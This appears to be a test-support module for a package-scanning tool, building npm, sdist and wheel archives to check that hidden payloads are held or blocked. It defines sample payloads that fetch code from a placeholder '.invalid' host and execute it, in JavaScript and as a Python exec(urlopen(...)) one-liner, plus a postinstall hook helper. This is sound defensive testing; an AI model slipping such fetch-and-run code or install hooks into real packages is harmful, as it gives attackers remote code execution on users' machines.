"""The payloads that are hidden, and what reading an archive that hides one must give."""

from datetime import UTC, datetime, timedelta

from customhouse.evidence.content import read_artifact
from customhouse.model.evidence import Case
from customhouse.model.finding import Finding
from customhouse.model.purl import Purl
from customhouse.policy.configuration import Configuration
from customhouse.policy.decide import decide
from customhouse.rules.judge import judge
from simulator import npm_tarball, sdist, wheel

#: Fetches something and runs it. Inert: the host does not exist, and nothing ever runs this.
JAVASCRIPT = """\
const { execSync } = require('child_process');
const fs = require('fs');
const https = require('https');
https.get('https://files.replica.invalid/stage2', (response) => {
  let body = '';
  response.on('data', (part) => { body += part; });
  response.on('end', () => { fs.writeFileSync('/tmp/replica.sh', body); execSync('sh /tmp/replica.sh'); });
});
"""
PYTHON = "import urllib.request\nexec(urllib.request.urlopen('https://files.replica.invalid/stage2').read())\n"
HARMLESS = "module.exports = 1;\n"
MINIMUM = timedelta()


def judged(data: bytes, filename: str) -> tuple[str, tuple[Finding, ...], tuple[str, ...]]:
    """The decision by default policy, the findings that led to it, and the gaps' messages."""
    ecosystem = "npm" if filename.endswith(".tgz") else "pypi"
    content = read_artifact(data, filename, ecosystem)
    case = Case(
        Purl(ecosystem, "replica", "1.0.0"),
        datetime.now(UTC),
        MINIMUM,
        contents=(content.facts,),
        gaps=content.gaps,
    )
    verdict = decide(case.purl, judge(case), case.gaps, (), (), Configuration(), case.now)
    stopping = tuple(one.finding for one in verdict.findings if one.decision != "allow")
    return verdict.decision, stopping, tuple(gap.message for gap in content.gaps)


def at_install(files: dict[str, str | bytes], command: str = "node setup.js") -> bytes:
    """An npm archive that runs a command after its install."""
    manifest = {"name": "replica", "version": "1.0.0", "scripts": {"postinstall": command}}
    return npm_tarball({"index.js": HARMLESS, **files}, manifest)


def assert_caught(data: bytes, filename: str = "replica-1.0.0.tgz") -> None:
    """The payload is seen for what it is: held or blocked by a finding, not only by a gap."""
    decision, findings, gaps = judged(data, filename)
    assert decision != "allow", gaps
    assert findings, f"held by what could not be read alone: {gaps}"


def assert_not_allowed(data: bytes, filename: str = "replica-1.0.0.tgz") -> None:
    """Held, be it for what could not be read."""
    assert judged(data, filename)[0] != "allow"


def in_setup(source: str | bytes, **files: str | bytes) -> bytes:
    """An sdist with this setup.py."""
    return sdist("replica", "1.0.0", {"setup.py": source, **files})


def in_wheel(source: str | bytes, **files: str | bytes) -> bytes:
    """A wheel with this module."""
    return wheel("replica", "1.0.0", {"replica/__init__.py": source, **files})
